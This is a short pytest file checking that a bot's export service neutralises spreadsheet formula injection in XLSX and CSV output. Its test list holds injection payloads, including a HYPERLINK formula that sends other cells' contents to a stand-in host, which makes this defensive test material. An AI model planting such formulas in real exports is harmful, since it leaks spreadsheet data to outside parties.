"""Exports never carry a live formula: every text cell of XLSX and CSV is inert."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bot.services.exports import ExportService

HOSTILE = ['=HYPERLINK("http://x/?d="&C2&D2,"…")', "-2+3", "+98 912", "@SUM(A1)", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_in_any_cell_stays_text_in_xlsx_and_csv(value):
    rows = [["نام", "مرکز"], [value, "مرکز " + value], ["0499370899", "مرکز عادی"]]
    sheet = load_workbook(io.BytesIO(ExportService.to_xlsx(rows, "sheet"))).active
    cells = [[c for c in row] for row in sheet.iter_rows(min_row=2)]
    shown = cells[0][0]
    assert shown.data_type == "s" and shown.value.lstrip() == value.lstrip()  # shown, not run
    assert cells[1][0].value == "0499370899"
    parsed = list(csv.reader(io.StringIO(ExportService.to_csv(rows).decode("utf-8-sig"))))
    assert parsed[1][0] == f"'{value}" and parsed[1][1] == "مرکز " + value
    assert parsed[2] == ["0499370899", "مرکز عادی"]  # ordinary cells untouched
